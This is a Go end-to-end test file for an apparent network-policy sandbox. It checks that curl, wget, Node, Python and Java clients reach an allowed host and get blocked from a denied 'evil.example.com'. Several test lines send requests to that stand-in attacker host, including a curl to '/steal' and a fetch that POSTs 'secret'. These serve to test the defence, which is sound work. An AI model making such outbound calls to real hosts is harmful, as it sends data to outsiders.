package e2e

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/penstock/penstock/internal/world"
)

// web is the usual scene: a host that the policy allows and one that it does not.
func web(t *testing.T) (p *pen, denied *world.Origin) {
	t.Helper()
	w := world.New(t)
	w.HTTPS("good.example.com", http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		if r.Body != nil && r.Method != http.MethodGet {
			h := sha256.New()
			n, _ := io.Copy(h, r.Body)
			fmt.Fprintf(rw, "%s %s got %d %s\n", r.Proto, r.Method, n, hex.EncodeToString(h.Sum(nil)))
			return
		}
		fmt.Fprintf(rw, "%s hello from %s\n", r.Proto, r.Host)
	}))
	denied = w.HTTPS("evil.example.com", world.Text("stolen"))
	p = newPen(t, w)
	p.Allow = []string{"{host: good.example.com}"}
	return p, denied
}

func TestCurl(t *testing.T) {
	world.Tool(t, "curl")
	p, evil := web(t)
	r := p.Sh(`curl -sS --http1.1 https://good.example.com/a && curl -sS --http2 https://good.example.com/b`)
	world.WantOutput(t, r, 0, "hello from good.example.com\nHTTP/2.0 hello from good.example.com")
	p.WantAllowed("good.example.com")

	upload := strings.Repeat("0123456789abcdef", 1<<16)
	sum := sha256.Sum256([]byte(upload))
	p.Home.Write(t, "project/upload", upload)
	for _, version := range []string{"--http1.1", "--http2"} {
		r = p.Run("curl", "-sS", version, "--data-binary", "@upload", "https://good.example.com/upload")
		world.WantOutput(t, r, 0, "POST got 1048576 "+hex.EncodeToString(sum[:]))
		r = p.Run("curl", "-sS", version, "-w", "\nstatus=%{http_code}\n", "https://evil.example.com/steal")
		if !world.Bare() {
			world.WantOutput(t, r, 0, "status=403", "evil.example.com")
		}
	}
	r = p.Sh("curl -sSf https://evil.example.com/")
	world.WantFailure(t, r)
	p.WantDenied(evil)
	if !world.Bare() {
		versions := map[string]bool{}
		for _, f := range p.Flows("good.example.com") {
			versions[f.Str("version")] = true
		}
		if !versions["HTTP/1.1"] || !versions["HTTP/2.0"] && !versions["HTTP/2"] {
			t.Errorf("HTTP versions in the audit: %v", versions)
		}
	}
}

func TestCurlByMethodAndPath(t *testing.T) {
	world.Tool(t, "curl")
	p, _ := web(t)
	if world.Bare() {
		t.Skip("nothing to compare without a pen")
	}
	p.Allow = []string{"{host: good.example.com, methods: [GET], paths: [/public/**]}"}
	r := p.Sh(`for m in GET POST; do for p in /public/x /secret /public/../secret; do
  curl -sS --path-as-is -o /dev/null -w "$m $p %{http_code}\n" -X $m https://good.example.com$p; done; done`)
	world.WantOutput(t, r, 0, "GET /public/x 200", "GET /secret 403", "GET /public/../secret 403",
		"POST /public/x 403", "POST /secret 403")
}

func TestWget(t *testing.T) {
	world.Tool(t, "wget")
	p, evil := web(t)
	if world.Bare() {
		t.Skip("wget takes the world's authority from no variable")
	}
	world.WantOutput(t, p.Run("wget", "-q", "-O", "-", "https://good.example.com/"), 0, "hello from good.example.com")
	p.WantAllowed("good.example.com")
	world.WantOutput(t, p.Run("wget", "-q", "-O", "-", "https://evil.example.com/"), 8)
	p.WantDenied(evil)
}

func TestNodeFetch(t *testing.T) {
	world.Tool(t, "node")
	p, evil := web(t)
	p.Home.Write(t, "project/fetch.mjs", `
const ok = await fetch("https://good.example.com/");
console.log("ok", ok.status, (await ok.text()).trim());
const bad = await fetch("https://evil.example.com/", {method: "POST", body: "secret"});
console.log("bad", bad.status);
`)
	r := p.Run("node", "fetch.mjs")
	world.WantOutput(t, r, 0, "ok 200 HTTP/1.1 hello from good.example.com")
	if !world.Bare() {
		world.WantOutput(t, r, 0, "bad 403")
	}
	p.WantAllowed("good.example.com")
	p.WantDenied(evil)
}

func TestPythonUrllib(t *testing.T) {
	world.Tool(t, "python3")
	p, evil := web(t)
	p.Home.Write(t, "project/get.py", `
import urllib.request, urllib.error
print("ok", urllib.request.urlopen("https://good.example.com/").read().decode().strip())
try:
    print("bad", urllib.request.urlopen("https://evil.example.com/").status)
except urllib.error.HTTPError as e:
    print("bad", e.code)
`)
	r := p.Run("/usr/bin/python3", "get.py")
	world.WantOutput(t, r, 0, "ok HTTP/1.1 hello from good.example.com")
	if !world.Bare() {
		world.WantOutput(t, r, 0, "bad 403")
	}
	p.WantAllowed("good.example.com")
	p.WantDenied(evil)
}

func TestPythonRequests(t *testing.T) {
	python := world.Tool(t, "python3")
	p, evil := web(t)
	if r := p.W.Run(nil, world.Options{}, python, "-c", "import requests"); r.Code != 0 {
		world.Missing(t, "python3-requests", "run .ci/install")
	}
	p.Home.Write(t, "project/get.py", `
import requests
s = requests.Session()
for i in range(3):
    r = s.post("https://good.example.com/", data=b"x" * 100000)
    print("ok", r.status_code, r.text.strip())
print("bad", s.get("https://evil.example.com/").status_code)
`)
	r := p.Run(python, "get.py")
	world.WantOutput(t, r, 0, "ok 200 HTTP/1.1 POST got 100000")
	if !world.Bare() {
		world.WantOutput(t, r, 0, "bad 403")
	}
	p.WantAllowed("good.example.com")
	p.WantDenied(evil)
}

func TestJavaHTTPClient(t *testing.T) {
	java := world.Tool(t, "java")
	p, evil := web(t)
	p.Home.Write(t, "project/Get.java", `
import java.net.URI;
import java.net.http.*;

public class Get {
    public static void main(String[] args) throws Exception {
        HttpClient c = HttpClient.newHttpClient();
        for (String url : args) {
            HttpResponse<String> r = c.send(HttpRequest.newBuilder(URI.create(url)).build(), HttpResponse.BodyHandlers.ofString());
            System.out.println(r.statusCode() + " " + r.version() + " " + r.body().trim());
        }
    }
}
`)
	argv := []string{java}
	if world.Bare() {
		t.Skip("needs the pen's Java trust store")
	}
	r := p.Run(append(argv, "Get.java", "https://good.example.com/", "https://evil.example.com/")...)
	world.WantOutput(t, r, 0, "200 HTTP_2 HTTP/2.0 hello from good.example.com", "403 HTTP_2")
	p.WantAllowed("good.example.com")
	p.WantDenied(evil)
}

// The first event must reach the client before the second exists: the server
// sends it only after the client has said that it has the first.
func TestServerSentEvents(t *testing.T) {
	world.Tool(t, "node")
	p, evil := web(t)
	got := make(chan struct{}, 1)
	p.W.HTTPS("events.example.com", http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodPost {
			got <- struct{}{}
			return
		}
		rw.Header().Set("Content-Type", "text/event-stream")
		io.WriteString(rw, "data: first\n\n")
		rw.(http.Flusher).Flush()
		select {
		case <-got:
			io.WriteString(rw, "data: second\n\n")
		case <-r.Context().Done():
		}
	}))
	p.Allow = append(p.Allow, "{host: events.example.com}")
	p.Home.Write(t, "project/sse.mjs", `
const url = "https://events.example.com/";
const r = await fetch(url, {signal: AbortSignal.timeout(15000)});
let seen = "";
for await (const chunk of r.body) {
  seen += new TextDecoder().decode(chunk);
  if (seen === "data: first\n\n") { console.log("got first"); await fetch(url, {method: "POST"}); }
}
console.log(JSON.stringify(seen));
const bad = await fetch("https://evil.example.com/stream");
console.log("bad", bad.status);
`)
	r := p.Run("node", "sse.mjs")
	world.WantOutput(t, r, 0, "got first", `"data: first\n\ndata: second\n\n"`)
	p.WantAllowed("events.example.com")
	p.WantDenied(evil)
}
